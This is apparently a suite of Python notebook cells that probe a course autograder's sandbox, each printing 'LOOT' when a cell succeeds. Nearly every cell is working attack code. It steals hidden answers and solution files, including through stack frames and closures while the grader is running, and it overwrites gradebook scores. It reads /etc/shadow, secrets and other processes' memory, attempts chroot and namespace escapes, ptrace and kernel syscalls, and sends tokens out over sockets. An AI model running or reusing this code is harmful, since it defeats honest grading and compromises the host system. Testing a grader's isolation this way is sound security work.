# What a submission looks for: the judge, the expected numbers, the course, the machine. LOOT in an output means it was found.

# %% 1.1 loses 1.2 1.4 | imports the problems, the oracles and the sample graphs
import importlib, sys
for name in ("problems", "problems.ps01", "problems.ps01_quotients", "problems.ps01_steps", "problems.oracles", "problems.sample_graphs", "oracles",
             "sample_graphs", "sheet", "marking.mark", "marking.runner"):
    try:
        module = importlib.import_module("adcourse.grading." + name)
        for attribute, thing in vars(module).items():
            if type(thing).__name__ in ("Problem", "Mistake", "Close", "Polynomial", "Quadratic") or attribute == "complex_step_gradient":
                print("LOOT", name, attribute)
    except Exception:
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | files of the problems, compiled ones and the solutions
import glob, os, sys
import adcourse
home = os.path.dirname(adcourse.__file__)
for pattern in (home + "/grading/problems/*", home + "/grading/problems/__pycache__/*", home + "/../solutions/*", home + "/../tests/*",
                home + "/../.git/*", "{COURSE}/*", "{COURSE}/build/*", "{COURSE}/solutions/*/*"):
    for path in glob.glob(pattern):
        if os.path.isfile(path) and not path.endswith("__init__.py") or "solutions" in path:
            print("LOOT", path)
for path in sys.path:
    for name in ("solutions", "tests/grading/answers"):
        if os.path.exists(os.path.join(path, name, "ps01_four_ways_to_a_slope")) or os.path.exists(os.path.join(path, name, "ps01.py")):
            print("LOOT", path, name)
print("tried")

# %% 1.1 loses 1.2 1.4 | the gradebook, other submissions, the course folder, read and written
import os, sqlite3
for path in ("{COURSE}", "{COURSE}/build/gradebook.db", "{COURSE}/build/submitted", "{COURSE}/build/autograded", "{COURSE}/nbgrader_config.py", "{CANARY}",
             "../../../gradebook.db", "../../build/gradebook.db"):
    if os.path.exists(path):
        print("LOOT", path)
    try:
        with open(path, "a") as file:
            file.write("495/14 {TOKEN}")
    except OSError:
        pass
try:
    sqlite3.connect("file:{COURSE}/build/gradebook.db?mode=rw", uri=True).execute("update grade set auto_score = 495")
    print("LOOT gradebook")
except sqlite3.Error:
    pass
print("tried")

# %% 1.1 loses 1.2 1.4 | secrets of the machine: passwords, homes, the environment, the command line
import glob, os, pathlib
for path in ("/etc/shadow", "/etc/passwd-", "/root/.ssh", "/root/.bashrc", "/root/.config", "/home", "/var/log", "/var/lib", "/var/spool", "/run", "/srv", "/boot"):
    try:
        inside = os.listdir(path) if os.path.isdir(path) else [open(path).read()]
        if inside and not all(name in ("empty",) for name in inside):
            print("LOOT", path, inside[:3])
    except OSError:
        pass
for name, value in os.environ.items():
    if any(word in name.upper() + value for word in ("SECRET", "TOKEN", "SSH_", "ADCOURSE_SEED", "{COURSE}")):
        print("LOOT", name)
print("tried")

# %% 1.1 loses 1.2 1.4 | /proc: memory, roots and environments of other processes
import os
for root in ("/proc", "/box/proc", "/oldroot/proc", "/newroot/proc"):
    for process in (*map(str, range(1, 200)), "self", "{HOSTPID}"):
        for name in ("environ", "mem", "root/etc/shadow", "cwd/nbgrader_config.py", "maps", "number"):
            path = f"{root}/{process}/{name}"
            try:
                if name == "number":
                    targets = [os.readlink(f"{path}/{number}") for number in os.listdir(path)]
                    if any("{COURSE}" in target or "gradebook" in target for target in targets):
                        print("LOOT", path)
                elif name == "mem":
                    if process != "self" and int(process) not in (os.getpid(),):
                        open(path, "rb+").close()
                        print("LOOT", path)
                elif "/" in name:
                    open(path).close()
                    print("LOOT", path)
                elif b"{COURSE}" in open(path, "rb").read():
                    print("LOOT", path)
            except (OSError, ValueError):
                pass
print("tried")

# %% 1.1 loses 1.2 1.4 | all that the garbage collector knows, searched for judges and problems
import gc
for thing in gc.get_objects():
    try:
        name = type(thing).__name__
        if name in ("Problem", "Probe", "Mistake", "Close", "Sheet", "Result", "Untouched", "Oracle", "Gradebook"):
            print("LOOT", name)
        elif isinstance(thing, dict) and {"expected", "_expected"} & {k for k in thing if isinstance(k, str)}:
            print("LOOT", list(thing)[:5])
    except Exception:
        pass
print("tried")

# %% 1.1 loses 1.1 1.2 1.4 | frames, closures and referrers, searched for the right answer while it is asked
import gc, sys

def fd(*args, **kwargs):
    seen, todo, frame = set(), [*args], sys._getframe(1)
    while frame:
        todo += [*frame.f_locals.values()]
        frame = frame.f_back
    for arg in args:
        todo += [r for r in gc.get_referrers(arg) if type(r).__name__ in ("cell", "function", "tuple", "Probe")]
    while todo and len(seen) < 20000:
        thing = todo.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        kind = type(thing).__name__
        if kind in ("Close", "Judge", "Mistake", "Problem"):
            return getattr(thing, "expected", 2.0)
        if kind in ("function", "cell", "Probe", "partial", "method", "dict", "list", "tuple"):
            todo += gc.get_referents(thing)
    return 0.0

second = complex_step = fd
# == 1.2
# == 1.4

# %% 1.4 loses 1.4 | the slope that lies beside f in the same definition
import gc

def complex_step(f, x, h=1e-20):
    for cell in getattr(f, "__closure__", None) or ():
        for user in gc.get_referrers(cell):
            for function in gc.get_referrers(user):
                if getattr(function, "__name__", "") in ("slope", "derivative", "df"):
                    return function(x)
    for name in ("slope", "derivative", "df", "grad"):
        try:
            return getattr(f, name)(x)
        except Exception:
            pass
    return 0.0

# %% 1.1 loses 1.2 1.4 | the history and the variables of the shell
from IPython import get_ipython
shell = get_ipython()
texts = [str(v) for v in (shell.user_ns.get("In"), shell.user_ns.get("Out"), shell.user_ns.get("_ih"), shell.history_manager and list(shell.history_manager.get_range()))]
if any("HIDDEN" + " TESTS" in text for text in texts):
    print("LOOT")
for name, value in list(shell.user_ns.items()):
    if type(value).__module__.startswith("adcourse.grading") and type(value).__name__ in ("Probe", "Sheet"):
        print("LOOT", name)
print("tried")

# %% 1.1 loses 1.2 1.4 | the cover taken off: unmounting, mounting, new namespaces
import ctypes, glob, os
import adcourse
libc = ctypes.CDLL(None, use_errno=True)
home = os.path.dirname(adcourse.__file__)
CLONE = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000}
for flags in (CLONE["mount"], CLONE["user"], CLONE["user"] | CLONE["mount"], CLONE["user"] | CLONE["mount"] | CLONE["pid"] | CLONE["net"]):
    if libc.unshare(flags) == 0:
        print("LOOT unshare", hex(flags))
for path in (home + "/grading/problems", "/tmp", "/proc", "/dev/shm", "/"):
    for flag in (0, 2, 8):
        if libc.umount2(path.encode(), flag) == 0:
            print("LOOT umount", path)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=10g") == 0 or libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0:
    print("LOOT mount")
if libc.pivot_root(b"/", b"/") == 0 or libc.syscall(161, b"/tmp") == 0:  # chroot
    print("LOOT root")
if glob.glob(home + "/grading/problems/ps*"):
    print("LOOT problems")
print("tried")

# %% 1.1 loses 1.2 1.4 | out of the changed root, by descriptors and by handles
import ctypes, os
try:
    os.mkdir("/tmp/inner")
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(here)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    print("LOOT chroot")
except OSError:
    pass
for number in range(3, 64):
    try:
        for path in ("../etc/shadow", "../../../../../../etc/shadow", "nbgrader_config.py"):
            os.close(os.open(path, os.O_RDONLY, dir_fd=number))
            print("LOOT", number, path)
    except OSError:
        pass
handle = (ctypes.c_char * 128)()
libc = ctypes.CDLL(None, use_errno=True)
if libc.open_by_handle_at(-100, handle, 0) >= 0:
    print("LOOT handle")
print("tried")

# %% 1.1 loses 1.2 1.4 | ptrace, process_vm_readv and pidfd_getfd on every process in sight
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for pid in [*range(1, 200), {HOSTPID}]:
    if pid == os.getpid():
        continue
    descriptor = libc.syscall(434, pid, 0)  # pidfd_open
    if descriptor >= 0 and pid == {HOSTPID}:
        print("LOOT sees the grader")
    if descriptor >= 0:
        for number in range(20):
            if libc.syscall(438, descriptor, number, 0) >= 0:  # pidfd_getfd
                print("tampering", pid, number)
        os.close(descriptor)
print("tried")

# %% 1.1 loses 1.2 1.4 | capabilities, setuid programs, devices, kernel doors
import ctypes, glob, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
if libc.setuid(0) == 0 and os.getuid() == 0 and os.access("/etc/shadow", os.R_OK):
    print("LOOT root")
for device in ("mem", "kmem", "sda", "vda", "loop0", "fuse", "kvm", "net/tun", "input/event0", "kmsg"):
    try:
        os.close(os.open("/dev/" + device, os.O_RDONLY))
        print("LOOT", device)
    except OSError:
        pass
for number in (175, 246, 321):  # init_module, kexec_load, bpf
    if libc.syscall(number, 0, 0, 0) >= 0:
        print("LOOT syscall", number)
try:
    os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
    open("/tmp/disk", "rb").read(1)
    print("LOOT mknod")
except OSError:
    pass
print("tried")

# %% 1.1 loses 1.2 1.4 | out into the network
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", {PORT})),
                        (socket.AF_UNIX, "\0{TOKEN}"), (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/var/run/docker.sock"),
                        (socket.AF_UNIX, "{CANARY}.sock")):
    try:
        with socket.socket(family) as out:
            out.settimeout(0.3)
            out.connect(address)
            out.send(b"{TOKEN}")
            print("LOOT", address)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.org", 80)
    print("LOOT names")
except OSError:
    pass
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):
    try:
        with socket.socket(family, kind, 1 if family == socket.AF_INET else 0) as raw:
            raw.settimeout(0.3)
            if family == 40:
                raw.connect((2, 22))
            print("LOOT", family)
    except (OSError, TypeError):
        pass
print("tried")

# %% 1.1 loses 1.2 1.4 | a port that listens, and a process that would serve it
import ctypes
fork = ctypes.PyDLL(None).fork  # os.fork is refused politely, this is not
import os, socket
if fork() == 0:
    os.setsid()
    if fork() == 0:
        for family, address in ((socket.AF_INET, ("0.0.0.0", {LISTEN})), (socket.AF_UNIX, "\0{TOKEN}.here")):
            try:
                server = socket.socket(family)
                server.bind(address)
                server.listen()
            except OSError:
                pass
        import time
        time.sleep(1000)
    os._exit(0)
os.wait()

# %% 1.1 loses 1.2 1.4 | the right answers read from a release that is installed
import importlib.metadata, os, sys
for distribution in importlib.metadata.distributions():
    if (distribution.metadata["Name"] or "").lower() == "adcourse":
        for file in distribution.files or ():
            if ("problems/ps" in str(file) or "solutions" in str(file)) and os.path.exists(file.locate()):
                print("LOOT", file)
import io, zipfile
for path in sys.path:
    if path.endswith(".zip") and os.path.exists(path) and any("problems/ps" in name for name in zipfile.ZipFile(path).namelist()):
        print("LOOT", path)
print("tried")

# %% 1.1 loses 1.2 1.4 | keys in the kernel's keyrings
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for keyring in (-1, -2, -3, -4, -5):
    key = libc.syscall(249, b"user", b"{TOKEN}", keyring, 0)  # request_key
    found = libc.syscall(250, 10, keyring, b"user", b"{TOKEN}", 0)  # keyctl search
    if key > 0 or found > 0:
        print("LOOT key")
print("tried")
